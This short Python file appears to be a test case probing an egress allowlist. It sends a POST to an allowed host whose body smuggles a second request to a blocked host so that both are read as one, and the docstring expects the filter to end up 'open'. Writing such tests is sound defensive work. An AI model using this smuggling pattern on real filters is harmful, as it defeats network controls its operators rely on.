"""
how: for an allowed name, another within its body, both read as one
expect: open
"""

from land import bad
from web import get, http, post


def attempt(token):
    return http(post("allowed.test", [f"Content-Length: {len(get(bad(token)))}"], get(bad(token))))
